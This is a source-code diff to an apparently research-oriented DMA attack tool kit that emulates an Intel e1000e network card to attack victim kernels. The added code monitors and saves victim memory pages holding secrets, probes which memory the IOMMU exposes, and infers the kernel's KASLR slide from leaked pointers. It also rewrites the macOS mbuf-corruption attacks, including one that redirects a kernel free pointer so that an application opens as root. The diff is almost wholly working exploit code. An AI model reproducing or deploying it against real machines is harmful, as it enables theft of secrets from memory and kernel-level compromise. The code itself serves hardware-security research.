@@ -39,18 +39,25 @@
 
 #include <stdbool.h>
 #include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
 #include <time.h>
 
 #include "attacks.h"
 #include "crhexdump.h"
-#include "freebsd-queue.h"
 #include "hw/pci/pci.h"
 #include "hw/net/e1000_regs.h"
 #include "hw/net/e1000e_core.h"
+#include "exfiltration.h"
+#include "kaslr.h"
 #include "mbuf-page.h"
+#include "page_delta.h"
+#include "page_set.h"
 #include "pcie.h"
 #include "pcie-debug.h"
+#include "reachability.h"
 #include "secret_position.h"
+#include "window_monitor.h"
 
 /* This has to come last because of macOS's bloody stupid approach to mbuf
  * members
@@ -67,8 +74,7 @@
  * Attack tool kit types
  * ---------------------------------------------------------------------------
  */
-extern FILE *GLOBAL_BINARY_FILE;
-bool tracking_window;
+extern struct exfil_writer GLOBAL_EXFIL_WRITER;
 
 void
 print_mbuf_flags(int mbuf_flags_field)
@@ -148,6 +154,7 @@ bswap24(uint32_t x)
 void
 endianness_swap_freebsd_mbuf_header(struct mbuf *mbuf)
 {
+#ifdef HOST_WORDS_BIGENDIAN
 #define FIX_32_FIELD(field)	field = (typeof(field))le32_to_cpu((int32_t)field)
 #define FIX_64_FIELD(field)	field = (typeof(field))le64_to_cpu((int64_t)field)
 
@@ -166,6 +173,7 @@ endianness_swap_freebsd_mbuf_header(struct mbuf *mbuf)
 
 #undef FIX_32_FIELD
 #undef FIX_64_FIELD
+#endif
 }
 
 void
@@ -208,126 +216,245 @@ print_buffer_address_information(E1000ECore *core, ConstDescriptorP descriptor)
 	/*hexdump((uint8_t *)(&mbuf_buffer), 256);*/
 }
 
-struct window {
-	uint64_t base;
-	uint64_t length;
-	uint64_t checksum;
-};
+/*
+ * Windows are IOVA ranges the attacks want to watch for changes, such as
+ * pages that held a secret. They are polled from the main loop by
+ * write_window_if_changed, within WINDOW_DMA_BUDGET bytes per second.
+ */
+#define WINDOW_CAPACITY 4096
+#define WINDOW_DMA_BUDGET (8 * 1024 * 1024)
+#define WINDOW_MIN_INTERVAL_NS 1000000ULL /* 1 ms */
+#define WINDOW_MAX_INTERVAL_NS 2000000000ULL /* 2 s */
+/* Successive versions of a window are stored as deltas against the last. */
+#define WINDOW_DELTA_CACHE_PAGES 1024
+#define WINDOW_KEYFRAME_INTERVAL 32
+/*
+ * The driver's buffers come from a few mapped regions, so the aligned region
+ * around each new window is mapped for reachability, a few probes at a time.
+ */
+#define WINDOW_REACH_BYTES (2 * 1024 * 1024)
+#define WINDOW_REACH_STRIDE_PAGES 32
+#define WINDOW_REACH_PROBES 32
 
-struct window tracked_window;
+static struct window_monitor window_monitor;
+static struct page_delta_encoder window_deltas;
 
-static inline void
-print_window(const struct window * const entry)
+static uint64_t
+monotonic_ns()
 {
-	printf("window 0x%lx (%ld bytes)", entry->base, entry->length);
+	struct timespec now;
+	clock_gettime(CLOCK_MONOTONIC, &now);
+	return (uint64_t)now.tv_sec * 1000000000ULL + now.tv_nsec;
 }
 
-int window_list_length, window_list_min_length, window_list_max_length;
-
-/* This could be done with better performance with an SLIST, but this requires
- * a really unpleasantly complicated system for iterating through the loop
- * while potentially removing elements (repeatedly checking the head in case
- * you delete it, and you need a new head, and then checking the 'next'
- * elemeent constantly, so you still have the handle to the 'current' element
- * to remove afterwards. I used to do this, but then I basically had to write
- * the code again, and couldn't think of a good abstraction.
- *
- * XXX cr437: I have been quite stupid here. There is equally the macro
- * SLIST_FOREACH_SAFE.
- */
-
-LIST_HEAD(window_list_head, window_list_entry) window_list_head
-	= LIST_HEAD_INITIALIZER(window_list_head);
+static enum dma_read_response
+read_window(uint8_t *buffer, uint64_t length, uint64_t address, void *opaque)
+{
+	E1000ECore *core = opaque;
+	return perform_dma_long_read(buffer, length, core->owner->devfn, 8,
+		address);
+}
 
+static void
+store_window_version(uint64_t base, const uint8_t *contents, uint32_t length)
+{
+	enum page_delta_kind kind;
+	const uint8_t *output;
+	int output_length;
 
-struct window_list_entry {
-	struct window window;
-	LIST_ENTRY(window_list_entry) window_list;
-};
+	if (length != PAGE_DELTA_PAGE_BYTES) {
+		exfil_submit(&GLOBAL_EXFIL_WRITER, ERT_WINDOW, base, contents, length);
+		return;
+	}
+	kind = page_delta_encode(&window_deltas, base, contents, &output,
+		&output_length);
+	if (kind != PDK_UNCHANGED &&
+		exfil_submit(&GLOBAL_EXFIL_WRITER,
+			kind == PDK_DELTA ? ERT_WINDOW_DELTA : ERT_WINDOW, base, output,
+			output_length)) {
+		page_delta_stored(&window_deltas, base, kind);
+	}
+}
 
-clock_t start_time;
+static void
+write_changed_window(const struct monitored_window *window,
+	const uint8_t *contents, uint64_t changed_lines, bool *remove,
+	void *opaque)
+{
+	store_window_version(window->base, contents, window->length);
+	putchar('c');
+}
 
 /* I don't like using the constructor attribute, but it's the simplest way to
  * go about this.
  */
 __attribute__((constructor))
 void
-initialise_window_list()
+initialise_window_monitor()
+{
+	printf("INIT WINDOW MONITOR\n");
+	if (!window_monitor_init(&window_monitor, WINDOW_CAPACITY,
+			WINDOW_DMA_BUDGET, WINDOW_MIN_INTERVAL_NS, WINDOW_MAX_INTERVAL_NS,
+			read_window, write_changed_window)) {
+		fprintf(stderr, "Couldn't allocate window monitor.\n");
+		exit(1);
+	}
+	if (!page_delta_init(&window_deltas, WINDOW_DELTA_CACHE_PAGES,
+			WINDOW_KEYFRAME_INTERVAL)) {
+		fprintf(stderr, "Couldn't allocate window delta cache.\n");
+		exit(1);
+	}
+}
+
+bool
+window_is_monitored(uint64_t base)
+{
+	return window_monitor_find(&window_monitor, base) != NULL;
+}
+
+/*
+ * Polls the windows that are due. Windows that can no longer be read are
+ * dropped.
+ */
+void
+check_windows_for_secret(E1000ECore *core)
 {
-	printf("INIT PAGE LIST\n");
-	LIST_INIT(&window_list_head);
-	window_list_length = 0;
-	window_list_min_length = 0;
-	window_list_max_length = 0;
-	start_time = clock();
-	tracking_window = false;
+	window_monitor_poll(&window_monitor, monotonic_ns(), core);
 }
 
-static inline void
-adjust_window_list_length(int diff)
+/*
+ * What the victim's IOMMU lets us read. The map covers the low
+ * REACHABILITY_BYTES of IOVA space. It is only kept between runs when the
+ * THUNDERCLAP_REACHABILITY environment variable names a file, and then only
+ * for the victim named by THUNDERCLAP_VICTIM, as the mappings change from
+ * machine to machine and boot to boot. Setting THUNDERCLAP_REACHABILITY
+ * empty turns the map off.
+ */
+#define REACHABILITY_BYTES (64ULL << 30)
+
+static struct reachability_map reachability;
+static const char *reachability_file;
+static const char *reachability_victim;
+
+static bool
+reachability_may_read_hook(uint64_t address, uint64_t length, void *opaque)
 {
-	window_list_length += diff;
-	/*printf("%d ", window_list_length);*/
-	/*fflush(stdout);*/
-	/*if (window_list_length > window_list_max_length) {*/
-		/*window_list_max_length = window_list_length;*/
-		/*printf("Window list new max length: %d.\n", window_list_length);*/
-	/*} else if (window_list_length < window_list_min_length) {*/
-		/*window_list_min_length = window_list_length;*/
-		/*printf("Window list new min length: %d.\n", window_list_length);*/
-	/*}*/
+	return reachability_may_read(&reachability, address, length);
+}
+
+static void
+reachability_read_done_hook(uint64_t address, uint64_t length,
+	enum dma_read_response response, void *opaque)
+{
+	reachability_record(&reachability, address, length, response);
+}
+
+static void
+save_reachability()
+{
+	if (!reachability_save(&reachability, reachability_file,
+			reachability_victim)) {
+		fprintf(stderr, "Couldn't save %s.\n", reachability_file);
+	}
 }
 
 bool
-window_in_list(struct window window)
+initialise_reachability()
 {
-	struct window_list_entry *window_list_entry;
-	LIST_FOREACH(window_list_entry, &window_list_head, window_list) {
-		if (window.base == window_list_entry->window.base &&
-			window.length == window_list_entry->window.length) {
-			return true;
-		}
+	const char *path = getenv("THUNDERCLAP_REACHABILITY");
+
+	if (path != NULL && path[0] == '\0') {
+		return true;
 	}
-	return false;
+	if (!reachability_init(&reachability, 0, REACHABILITY_BYTES)) {
+		fprintf(stderr, "Couldn't allocate reachability map.\n");
+		return false;
+	}
+	dma_read_hooks.may_read = reachability_may_read_hook;
+	dma_read_hooks.read_done = reachability_read_done_hook;
+	if (path == NULL) {
+		return true;
+	}
+
+	reachability_victim = getenv("THUNDERCLAP_VICTIM");
+	if (reachability_victim == NULL || reachability_victim[0] == '\0' ||
+		strlen(reachability_victim) >= REACHABILITY_VICTIM_BYTES) {
+		printf("Set THUNDERCLAP_VICTIM to a name for the victim of under %d "
+			"characters to keep %s. Not keeping the reachability map.\n",
+			REACHABILITY_VICTIM_BYTES, path);
+		return true;
+	}
+	reachability_file = path;
+	if (reachability_load(&reachability, path, reachability_victim)) {
+		printf("Loaded reachability map of %s from %s.\n",
+			reachability_victim, path);
+	}
+	atexit(save_reachability);
+	return true;
+}
+
+static enum dma_read_response
+probe_reachability(uint64_t address, void *opaque)
+{
+	E1000ECore *core = opaque;
+	uint8_t buffer[8];
+
+	return perform_dma_read(buffer, sizeof(buffer), core->owner->devfn, 8,
+		address);
 }
 
+uint64_t
+map_reachable_pages(E1000ECore *core, uint64_t start, uint64_t length,
+	uint64_t stride_pages, uint64_t max_probes)
+{
+	return reachability_probe(&reachability, start, length, stride_pages,
+		max_probes, probe_reachability, core);
+}
+
+/*
+ * Slide inference for the victim's kernel, fed from pages the attacks read
+ * anyway. Once confident, no more time is spent scanning.
+ */
+static struct kaslr_engine kaslr;
+static bool kaslr_reported;
+
+__attribute__((constructor))
 void
-check_windows_for_secret(E1000ECore *core)
+initialise_kaslr()
 {
-	assert(false); /* XXX THIS USES FUNCTIONS THAT ARE BITROTTED FOR EXPERIMENT */
-	int read_result;
-	uint8_t page[4096];
-	struct window_list_entry *entry, *temp;
+	kaslr_init_for_victim(&kaslr);
+}
 
-	if ((clock() - start_time) < 20000) {
-		/*printf("%d\n", window_list_length);*/
-		return;
+static void
+report_kaslr_slide()
+{
+	uint64_t slide;
+	if (!kaslr_reported && kaslr_confident(&kaslr) &&
+		kaslr_best_slide(&kaslr, &slide)) {
+		printf("KASLR slide 0x%lx after %lu pages.\n", slide,
+			kaslr.pages_to_confidence);
+		kaslr_reported = true;
 	}
+}
 
-	/*putchar('c'); fflush(stdout);*/
-
-	LIST_FOREACH_SAFE(entry, &window_list_head, window_list, temp) {
-		read_result = perform_dma_long_read(page, entry->window.length,
-			core->owner->devfn, 8, entry->window.base);
-		if (read_result == DRR_SUCCESS) {
-			/*check_for_secret(&(entry->window), page);*/
-		} else {
-			LIST_REMOVE(entry, window_list);
-			free(entry);
-			adjust_window_list_length(-1);
-		}
+static void
+note_kernel_pointers(const uint8_t page[4096])
+{
+	if (!kaslr_confident(&kaslr)) {
+		kaslr_add_page(&kaslr, page);
+		report_kaslr_slide();
 	}
 }
 
-uint64_t
-checksum_window(uint8_t page[4096])
+/* The slide if it is known with confidence, otherwise 0. */
+static uint64_t
+inferred_kaslr_slide()
 {
-	uint64_t sum = 0;
-	uint64_t *page_as_uint64 = (uint64_t *)page;
-	for (int i = 0; i < (4096 / sizeof(uint64_t)); ++i) {
-		sum += page_as_uint64[i];
+	uint64_t slide;
+	if (kaslr_confident(&kaslr) && kaslr_best_slide(&kaslr, &slide)) {
+		return slide;
 	}
-	return sum;
+	return 0;
 }
 
 void
@@ -353,6 +480,7 @@ mangle_kernel_pointers(E1000ECore *core, dma_addr_t descriptor_addr,
 	int kernel_pointer_location = -4;
 
 	if (read_result == DRR_SUCCESS) {
+		note_kernel_pointers(page);
 		while (true) {
 			kernel_pointer_location = secret_position(page,
 				kernel_pointer_location + 4, 0xFF, 4);
@@ -384,15 +512,13 @@ mangle_kernel_pointers(E1000ECore *core, dma_addr_t descriptor_addr,
 void
 store_open_window_from_tx_ring(E1000ECore *core, ConstDescriptorP descriptor)
 {
-	struct window window;
-	window.base = descriptor->buffer_addr;
-	window.length = descriptor->length;
-
-	uint64_t window_page_base_address = page_base_address(window.base);
-
 	/* XXX: WINDOW TRACKING */
-	window.base = window_page_base_address;
-	window.length = 4096;
+	uint64_t window_page_base_address =
+		page_base_address(descriptor->buffer_addr);
+
+	if (window_is_monitored(window_page_base_address)) {
+		return;
+	}
 
 	int read_result;
 	uint8_t page[4096];
@@ -401,13 +527,16 @@ store_open_window_from_tx_ring(E1000ECore *core, ConstDescriptorP descriptor)
 		window_page_base_address);
 
 	if (read_result == DRR_SUCCESS) {
+		map_reachable_pages(core,
+			window_page_base_address & ~(uint64_t)(WINDOW_REACH_BYTES - 1),
+			WINDOW_REACH_BYTES, WINDOW_REACH_STRIDE_PAGES,
+			WINDOW_REACH_PROBES);
 		if (secret_position(page, 0, 'i', 8) != -1) {
 			putchar('s');
 			fflush(stdout);
-			tracking_window = true;
-			window.checksum = checksum_window(page);
-			tracked_window = window;
-			fwrite(page, 1, 4096, GLOBAL_BINARY_FILE);
+			window_monitor_add(&window_monitor, window_page_base_address,
+				4096, page, monotonic_ns());
+			store_window_version(window_page_base_address, page, 4096);
 		}
 	} else {
 		printf("Couldn't read page! Weird :(.\n");
@@ -417,29 +546,12 @@ store_open_window_from_tx_ring(E1000ECore *core, ConstDescriptorP descriptor)
 void
 write_window_if_changed(E1000ECore *core)
 {
-	int read_result;
-	uint8_t page[4096];
-	uint64_t new_checksum;
-
-	if (!tracking_window) {
-		return;
-	}
-
-	read_result = perform_dma_long_read(page, 4096, core->owner->devfn, 8,
-		tracked_window.base);
+	uint64_t read_failures = window_monitor.read_failures;
 
-	if (read_result == DRR_SUCCESS) {
-		new_checksum = checksum_window(page);
-		if (new_checksum != tracked_window.checksum) {
-			tracked_window.checksum = new_checksum;
-			fwrite(page, 1, 4096, GLOBAL_BINARY_FILE);
-			putchar('c');
-			fflush(stdout);
-		}
-	} else {
+	window_monitor_poll(&window_monitor, monotonic_ns(), core);
+	if (window_monitor.read_failures != read_failures) {
 		putchar('E');
 		fflush(stdout);
-		tracking_window = false;
 	}
 }
 
@@ -610,36 +722,58 @@ attempt_to_subvert_windows(E1000ECore* core, hwaddr ba)
 	pci_dma_write(core->owner, fp_addr, &new_fp, 8);
 }
 
-#define PAGE_ADDR_COUNT 16
-static uint64_t _read_page_addrs[PAGE_ADDR_COUNT];
-static uint64_t _next_page_index;
+/*
+ * Pages already handled by the mbuf attacks. An entry lasts until the next
+ * reset_read_pages, so that a page is processed at most once per pass over
+ * the ring however many distinct pages the driver cycles through.
+ */
+#define READ_PAGES_CAPACITY 1024
+#define READ_PAGES_GENERATIONS 1
+static struct page_set _read_pages;
+
+static struct page_set *
+read_pages()
+{
+	if (_read_pages.entries == NULL &&
+		!page_set_init(&_read_pages, READ_PAGES_CAPACITY,
+			READ_PAGES_GENERATIONS, 0)) {
+		fprintf(stderr, "Couldn't allocate read page set.\n");
+		exit(1);
+	}
+	return &_read_pages;
+}
 
 void
 mark_page_read(hwaddr page_addr)
 {
-	_read_page_addrs[_next_page_index] = page_addr;
-	_next_page_index = (_next_page_index + 1) % PAGE_ADDR_COUNT;
+	page_set_add(read_pages(), page_addr);
 }
 
+/*
+ * Each hit is a 4K DMA that did not need to be repeated; see
+ * get_read_page_counts.
+ */
 bool
 page_was_read(hwaddr page_addr)
 {
-	for (uint64_t i = 0; i < PAGE_ADDR_COUNT; ++i) {
-		if (_read_page_addrs[i] == page_addr) {
-			return true;
-		}
-	}
-	return false;
+	return page_set_contains(read_pages(), page_addr);
 }
 
 void
 reset_read_pages()
 {
-	_next_page_index = 0;
+	page_set_new_generation(read_pages());
 	putchar('R');
 	fflush(stdout);
 }
 
+void
+get_read_page_counts(uint64_t *hits, uint64_t *misses)
+{
+	*hits = _read_pages.hits;
+	*misses = _read_pages.misses;
+}
+
 void
 save_mbufs_to_file(E1000ECore* core, ConstDescriptorP desc)
 {
@@ -656,9 +790,12 @@ save_mbufs_to_file(E1000ECore* core, ConstDescriptorP desc)
 	mark_page_read(mbuf_page.iovaddr);
 	read_result = perform_dma_long_read((uint8_t *)mbuf_page.contents, 4096,
 		core->owner->devfn, 8, mbuf_page.iovaddr);
-	fwrite(&mbuf_page, sizeof(struct mbuf_page), 1, GLOBAL_BINARY_FILE);
+	if (read_result == DRR_SUCCESS) {
+		note_kernel_pointers((uint8_t *)mbuf_page.contents);
+	}
+	exfil_submit(&GLOBAL_EXFIL_WRITER, ERT_MBUF_PAGE, mbuf_page.iovaddr,
+		mbuf_page.contents, sizeof(mbuf_page.contents));
 	putchar('w');
-	fflush(stdout);
 }
 
 #ifdef VICTIM_MACOS_HIGH_SIERRA
@@ -680,9 +817,8 @@ attack_high_sierra(E1000ECore* core, ConstDescriptorP desc)
 		return;
 	}
 
-	enum dma_read_response read_result;
-	struct mbuf mbuf;
-	uint64_t mbuf_address;
+	struct mbuf_page mbuf_page;
+	struct mbuf *mbuf;
 	uint64_t blinded_kernel_address;
 	uint64_t blind_bits;
 	uint64_t low_blind_bits;
@@ -694,31 +830,33 @@ attack_high_sierra(E1000ECore* core, ConstDescriptorP desc)
 	mark_page_read(page_addr);
 	putchar('m');
 	fflush(stdout);
+	if (read_mbuf_page(&mbuf_page, core->owner->devfn, page_addr) !=
+		DRR_SUCCESS) {
+		return;
+	}
 	for (uint i = 0; i < MBUFS_PER_PAGE; ++i) {
-		mbuf_address = page_addr + i * sizeof(mbuf);
-		read_result = perform_dma_read((uint8_t *)&mbuf, sizeof(mbuf),
-			core->owner->devfn, 8, mbuf_address);
-		endianness_swap_mac_mbuf_header(&mbuf);
-		if (mbuf.MM_LEN > 0 && mbuf.MM_EXT.ext_size <= (2 * M16KCLBYTES) && (
-				mbuf.MM_LEN > MCLBYTES || mbuf.MM_EXT.ext_size > MCLBYTES)) {
-			blinded_kernel_address = mbuf.MM_EXT.ext_free;
-			if (mbuf.MM_LEN > MBIGCLBYTES ||
-				mbuf.MM_EXT.ext_size > MBIGCLBYTES) {
+		mbuf = &mbuf_page.contents[i];
+		if (mbuf->MM_LEN > 0 &&
+				mbuf->MM_EXT.ext_size <= (2 * M16KCLBYTES) &&
+				(mbuf->MM_LEN > MCLBYTES || mbuf->MM_EXT.ext_size > MCLBYTES)) {
+			blinded_kernel_address = mbuf->MM_EXT.ext_free;
+			if (mbuf->MM_LEN > MBIGCLBYTES ||
+				mbuf->MM_EXT.ext_size > MBIGCLBYTES) {
 				printf("16k cluster? len: %d. ext_size: %u.\n",
-					mbuf.MM_LEN, mbuf.MM_EXT.ext_size);
+					mbuf->MM_LEN, mbuf->MM_EXT.ext_size);
 				blind_bits = blinded_kernel_address ^= HIGH_SIERRA_16KFREE;
 			} else {
 				printf("4K cluster? len: %d. ext_size: %u.\n",
-					mbuf.MM_LEN, mbuf.MM_EXT.ext_size);
+					mbuf->MM_LEN, mbuf->MM_EXT.ext_size);
 				blind_bits = blinded_kernel_address ^ HIGH_SIERRA_BIGFREE;
 			}
 			low_blind_bits = blind_bits & ONE_MB_MASK;
 			blind_bits &= NOT_1MB_MASK;
 			blinded_panic_address = low_blind_bits & ONE_MB_MCACHE_PANIC;
-			mbuf.MM_EXT.ext_free = blind_bits | blinded_panic_address;
-			endianness_swap_mac_mbuf_header(&mbuf);
-			perform_dma_write((uint8_t *)&mbuf, sizeof(mbuf),
-				core->owner->devfn, 8, mbuf_address);
+			mbuf->MM_EXT.ext_free = blind_bits | blinded_panic_address;
+			endianness_swap_mac_mbuf_header(mbuf);
+			perform_dma_write((uint8_t *)mbuf, sizeof(*mbuf),
+				core->owner->devfn, 8, mbuf_iovaddr(&mbuf_page, i));
 		}
 	}
 }
@@ -760,7 +898,7 @@ subvert_mbuf(struct mbuf *mbuf, uint64_t kernel_mbuf_addr)
 	mbuf->MM_NEXT = NULL;
 	mbuf->MM_NEXTPKT = NULL;
 	mbuf->MM_EXT.ext_refflags = kernel_mbuf_addr + MBUF_EMPTY_OFFSET;
-	mbuf->MM_EXT.ext_free = EL_CAPITAN_KUNC_EXECUTE;
+	mbuf->MM_EXT.ext_free = EL_CAPITAN_KUNC_EXECUTE + inferred_kaslr_slide();
 	mbuf->MM_EXT.ext_buf = kernel_mbuf_addr + offsetof(struct mbuf, MM_PKTHDR);
 	mbuf->MM_EXT.ext_size = kOpenAppAsRoot;
 	mbuf->MM_EXT.ext_arg = kOpenApplicationPath;
@@ -788,24 +926,30 @@ attack_el_capitan(E1000ECore* core, ConstDescriptorP desc)
 	putchar('m');
 	fflush(stdout);
 
-	struct mbuf mbufs[MBUFS_PER_PAGE];
+	struct mbuf_page mbuf_page;
+	struct mbuf *mbufs = mbuf_page.contents;
 	uint32_t i;
 	uint64_t mbuf_address,  kernel_mbuf_address;
 	uint64_t kernel_page_address = 0;
-	perform_dma_long_read((uint8_t*)mbufs, sizeof(struct mbuf) * MBUFS_PER_PAGE,
-		core->owner->devfn, 8, page_addr);
+	if (read_mbuf_page(&mbuf_page, core->owner->devfn, page_addr) !=
+		DRR_SUCCESS) {
+		return;
+	}
 	/* First need to find kernel address of page */
 	for (i = 0; i < MBUFS_PER_PAGE; ++i) {
-		endianness_swap_mac_mbuf_header(&mbufs[i]);
+		if (mbufs[i].MM_FLAGS & M_EXT) {
+			kaslr_add_pointer(&kaslr, mbufs[i].MM_EXT.ext_free);
+		}
 		if (kernel_page_address == 0 && mbufs[i].m_hdr.mh_data % 2048 != 0) {
 			kernel_page_address = page_base_address(mbufs[i].m_hdr.mh_data);
 		}
 	}
+	report_kaslr_slide();
 	if (kernel_page_address == 0) {
 		return;
 	}
 	for (i = 0; i < MBUFS_PER_PAGE; ++i) {
-		mbuf_address = page_addr + i * sizeof(struct mbuf);
+		mbuf_address = mbuf_iovaddr(&mbuf_page, i);
 		if (!should_subvert_mbuf(&mbufs[i])) {
 			continue;
 		}